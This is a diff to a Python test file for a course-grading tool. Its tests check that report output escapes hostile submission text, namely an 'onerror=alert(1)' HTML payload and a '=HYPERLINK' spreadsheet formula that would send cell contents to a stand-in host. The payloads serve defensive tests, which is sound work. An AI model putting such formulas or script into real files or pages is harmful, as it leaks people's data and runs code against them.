@@ -100,3 +100,22 @@ def test_text_from_a_submission_is_plain_text_in_report_md(tmp_path):
         assert not re.search(r"(?<!\\)[<>\[\]`*]", line.replace("\\\\", "")), line
     assert "\\<img src=x onerror=alert(1)\\>" in text
     assert "\\[link\\](https://e.org) \\`code\\` \\*em\\* a\\\\b \\|" in text
+
+
+
+def test_no_cell_of_report_csv_is_a_spreadsheet_formula(tmp_path):
+    """A file name or message from a submission that starts like a formula."""
+    import csv
+
+    from coursetools import report
+
+    name = '=HYPERLINK("http://x.example?"&A3,"notes")'
+    found = [Finding("extra_file", f"{name} was handed in beside the notebook")]
+    results = {"eve": graded(findings=found), "@bob": graded()}
+    report.write(tmp_path, "rnn", results, {"eve": (1.0, 2.0), "@bob": (2.0, 2.0)})
+    with (tmp_path / "report.csv").open(newline="") as handle:
+        rows = {row["student"]: row for row in csv.DictReader(handle)}
+    assert set(rows) == {"eve", "'@bob"}
+    assert rows["eve"]["details"] == "'" + found[0].text()
+    assert rows["eve"]["score"] == "1.0"  # numbers are left alone
+    assert "**eve**: =HYPERLINK" in (tmp_path / "report.md").read_text()
